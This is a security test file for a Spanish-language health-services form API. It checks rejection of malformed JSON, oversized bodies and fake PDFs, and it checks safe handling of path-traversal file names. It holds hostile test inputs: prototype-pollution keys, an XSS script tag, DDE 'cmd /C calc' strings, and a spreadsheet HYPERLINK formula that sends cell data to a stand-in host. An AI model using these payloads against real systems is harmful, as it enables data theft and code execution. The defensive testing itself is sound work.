import { execFileSync } from 'node:child_process'
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import {
  Client,
  countRows,
  historiaFields,
  historiaForm,
  ROOT,
  startInProcess,
  storedFiling,
  TINY_PDF,
  validCita,
  validPqrs,
  type RunningServer,
} from './helpers.ts'
import { compiledNodeArgs } from '../helpers/compiledCommand.ts'

let server: RunningServer
let client: Client
const statuses: number[] = []

beforeAll(async () => {
  server = await startInProcess({ label: 'bad' })
  client = await new Client(server.url).init()
})
afterAll(async () => {
  // Across the whole suite: never a 5xx.
  expect(statuses.filter(s => s >= 500)).toEqual([])
  await server?.close()
})

async function expectRefused(res: Response, status: number | number[] = 400): Promise<{ error: string; fields: Record<string, string> }> {
  statuses.push(res.status)
  expect(Array.isArray(status) ? status : [status]).toContain(res.status)
  const text = await res.text()
  // No stack traces, SQL or internals in any answer.
  expect(text).not.toMatch(/\bat \w+ \(|node_modules|SQLITE|INSERT|SELECT|Error:/)
  const body = JSON.parse(text) as { error: string; fields: Record<string, string> }
  expect(typeof body.error).toBe('string')
  expect(typeof body.fields).toBe('object')
  return body
}

async function unchanged(fn: () => Promise<void>): Promise<void> {
  const before = await countRows(server.dataDir)
  await fn()
  expect(await countRows(server.dataDir)).toEqual(before)
}

describe('malformed and mistyped JSON', () => {
  it('malformed JSON answers 400 {error, fields}', async () => {
    await unchanged(async () => {
      for (const p of ['/api/pqrs', '/api/cita', '/api/suscripcion']) {
        for (const raw of ['{"nombre":', '{nombre: "x"}', "{'a':1}", '{"a":1}}', '\u0000']) {
          const body = await expectRefused(await client.postJson(p, raw))
          expect(body).toEqual({ error: 'La solicitud no tiene un formato válido (JSON).', fields: {} })
        }
      }
    })
  })

  it('an empty JSON body answers 400', async () => {
    await unchanged(async () => {
      await expectRefused(await client.postRaw('/api/pqrs', '', 'application/json'))
    })
  })

  it('a body that is not an object answers 400 with a form message', async () => {
    await unchanged(async () => {
      for (const raw of ['[]', '[1,2]', '"hola"', '42', 'null', 'true']) {
        const body = await expectRefused(await client.postJson('/api/pqrs', raw))
        expect(body.fields._formulario).toBe('El formulario no es válido.')
      }
    })
  })

  it('wrong types in fields answer 400 with the field messages', async () => {
    await unchanged(async () => {
      const body = await expectRefused(
        await client.postJson(
          '/api/pqrs',
          validPqrs({
            tipoSolicitud: { $gt: 0 },
            nombre: ['Ana'],
            apellido: 12,
            mensaje: { texto: 'x' },
            telefono: true,
            tipoPersona: 1e21,
            tipoRespuesta: -1,
          }),
        ),
      )
      expect(body.fields).toEqual({
        tipoSolicitud: 'El tipo de solicitud es obligatoria',
        nombre: 'El nombre es obligatorio',
        apellido: 'El Apellido es obligatorio',
        mensaje: 'El mensaje es obligatorio',
        telefono: 'El numero de telefono es obligatorio',
        tipoPersona: 'El tipo de persona es obligatoria',
        tipoRespuesta: 'El metodo de respuesta es obligatorio',
      })
      const cita = await expectRefused(await client.postJson('/api/cita', validCita({ autorizacionDatos: 'sí', fechaCita: 'mañana', eps: null })))
      expect(Object.keys(cita.fields).sort()).toEqual(['autorizacionDatos', 'eps', 'fechaCita'])
    })
  })

  it('unknown fields and prototype keys are refused', async () => {
    await unchanged(async () => {
      const extra = await expectRefused(await client.postJson('/api/pqrs', validPqrs({ radicado: 'PQRS-2025-000001' })))
      // Unknown fields share one message (a bounded answer, docs/decisions/security.md).
      expect(extra.fields).toEqual({ _formulario: 'El formulario contiene campos que no se esperan.' })
      await expectRefused(await client.postJson('/api/pqrs', JSON.stringify(validPqrs()).replace(/^\{/, '{"__proto__":{"admin":true},')))
      await expectRefused(await client.postJson('/api/suscripcion', '{"correoElectronico":"a@example.com","constructor":{"prototype":{"x":1}}}'))
    })
  })

  it('other content types are refused without a 5xx', async () => {
    await unchanged(async () => {
      await expectRefused(await client.postRaw('/api/pqrs', 'nombre=Ana&apellido=P', 'application/x-www-form-urlencoded'), [400, 415])
      await expectRefused(await client.postRaw('/api/pqrs', JSON.stringify(validPqrs()), 'text/plain'), [400, 415])
      await expectRefused(await client.postRaw('/api/pqrs', '<xml/>', 'application/xml'), [400, 415])
      await expectRefused(await client.postForm('/api/pqrs', historiaForm()), [400, 415])
      await expectRefused(await client.postJson('/api/historia-clinica', historiaFields()), [400, 415])
      // A compressed body is not inflated by the server (no zip bombs): refused.
      await expectRefused(
        await fetch(`${server.url}/api/pqrs`, {
          method: 'POST',
          headers: client.headers({ 'content-type': 'application/json', 'content-encoding': 'gzip' }),
          body: new Uint8Array([31, 139, 8, 0]),
        }),
        [400, 415],
      )
    })
  })
})

describe('huge bodies', () => {
  it('a JSON body over 64 KB answers 413 in Spanish', async () => {
    await unchanged(async () => {
      for (const size of [65 * 1024, 2 * 1024 * 1024]) {
        const body = await expectRefused(await client.postJson('/api/pqrs', validPqrs({ mensaje: 'x'.repeat(size) })), 413)
        expect(body.error).toBe('La solicitud supera el tamaño máximo permitido.')
      }
    })
  })

  it('a multipart body with a huge text field or too many fields is refused', async () => {
    await unchanged(async () => {
      await expectRefused(await client.postForm('/api/historia-clinica', historiaForm(historiaFields({ nombre: 'x'.repeat(100 * 1024) }))), [400, 413])
      const many = historiaForm()
      for (let i = 0; i < 60; i++) many.append(`campo${i}`, 'x')
      await expectRefused(await client.postForm('/api/historia-clinica', many), [400, 413])
    })
  })
})

describe('uploads', () => {
  it('a non-PDF renamed .pdf (with a PDF content type) is refused and its bytes are not kept', async () => {
    await unchanged(async () => {
      for (const content of [
        Buffer.from('MZ\x90\x00 ejecutable', 'latin1'),
        Buffer.from('<html><script>alert(1)</script></html>'),
        Buffer.from(' %PDF-1.4 con espacio delante'),
      ]) {
        const body = await expectRefused(
          await client.postForm('/api/historia-clinica', historiaForm(historiaFields(), { content, name: 'formato.pdf', type: 'application/pdf' })),
        )
        expect(body.fields).toEqual({ pdf: 'El archivo debe ser un PDF.' })
      }
    })
  })

  it('a PDF over 10 MB is refused and nothing is kept', async () => {
    await unchanged(async () => {
      const big = Buffer.concat([TINY_PDF, Buffer.alloc(10 * 1024 * 1024 + 10, 0x20)])
      const body = await expectRefused(await client.postForm('/api/historia-clinica', historiaForm(historiaFields(), { content: big, name: 'grande.pdf' })))
      expect(body.fields).toEqual({ pdf: 'El archivo supera el tamaño máximo de 10 MB.' })
    })
  })

  it('a second file is refused', async () => {
    await unchanged(async () => {
      const form = historiaForm()
      form.append('pdf', new Blob([new Uint8Array(TINY_PDF)], { type: 'application/pdf' }), 'otro.pdf')
      expect((await expectRefused(await client.postForm('/api/historia-clinica', form))).error).toBe('Solo se admite un archivo PDF por solicitud.')
      const other = historiaForm()
      other.append('anexo', new Blob([new Uint8Array(TINY_PDF)], { type: 'application/pdf' }), 'anexo.pdf')
      await expectRefused(await client.postForm('/api/historia-clinica', other))
    })
  })

  it('a path-traversal file name is never used as a path: kept under a random name, the label reduced', async () => {
    const outside = path.join(os.tmpdir(), `evil-${process.pid}.pdf`)
    const names = [`../../../../../..${outside}`, '..\\..\\..\\windows\\evil.pdf', '/etc/passwd', 'con\u0000trol\r\n.pdf']
    const ids: string[] = []
    for (const name of names) {
      const res = await client.postForm('/api/historia-clinica', historiaForm(historiaFields(), { content: TINY_PDF, name }))
      statuses.push(res.status)
      expect(res.status).toBe(200)
      ids.push(((await res.json()) as { id: string }).id)
    }
    expect(fs.existsSync(outside)).toBe(false)
    const rows = await Promise.all(ids.map(async id => (await storedFiling(server.dataDir, id))!.adjuntos[0]!))
    for (const r of rows) {
      expect(r.archivo).toMatch(/^[0-9a-f-]{36}\.pdf$/)
      expect(r.nombreOriginal).not.toMatch(/[\\/\u0000-\u001f]/)
      expect(fs.existsSync(path.join(server.dataDir, 'adjuntos', r.archivo))).toBe(true)
    }
    // The label is named after the content too (a PDF): «passwd» is kept as «passwd.pdf».
    expect(rows.map(r => r.nombreOriginal).slice(0, 3)).toEqual([path.basename(outside), 'evil.pdf', 'passwd.pdf'])
  })
})

describe('script payloads', () => {
  it('are stored as text, never echoed, and come back escaped in the export', async () => {
    const payloads = {
      nombre: '<script>alert("xss")</script>',
      apellido: '=HYPERLINK("http://malo.example/?d="&A1,"clic")',
      direccion: "+57 cmd|' /C calc'!A0",
      mensaje: '@SUM(1+1)*cmd|\' /C calc\'!A0\n"comillas" y, comas',
    }
    const res = await client.postJson('/api/pqrs', validPqrs({ ...payloads, numeroIdentificacion: '5550001' }))
    statuses.push(res.status)
    expect(res.status).toBe(200)
    const text = await res.text()
    expect(text).not.toContain('<script>')
    const { id } = JSON.parse(text) as { id: string }
    const minus = await client.postJson('/api/cita', validCita({ nombre: '-2+3', eps: '@EPS' }))
    statuses.push(minus.status)
    expect(minus.status).toBe(200)

    const csv = execFileSync(process.execPath, compiledNodeArgs('src/server/export.ts', ['pqrs']), {
      cwd: ROOT,
      env: { ...process.env, DATA_DIR: server.dataDir },
      encoding: 'utf8',
    })
    const line = csv.split('\r\n').find(l => l.startsWith(`"${id}"`))!
    expect(line).toContain('"<script>alert(""xss"")</script>"')
    expect(line).toContain(`"'=HYPERLINK(""http://malo.example/?d=""&A1,""clic"")"`)
    expect(line).toContain(`"'+57 cmd|' /C calc'!A0"`)
    expect(csv).toContain(`"'@SUM(1+1)*cmd|' /C calc'!A0\n""comillas"" y, comas"`)
    const citas = execFileSync(process.execPath, compiledNodeArgs('src/server/export.ts', ['citas']), {
      cwd: ROOT,
      env: { ...process.env, DATA_DIR: server.dataDir },
      encoding: 'utf8',
    })
    expect(citas).toContain(`"'-2+3"`)
    expect(citas).toContain(`"'@EPS"`)
  })
})
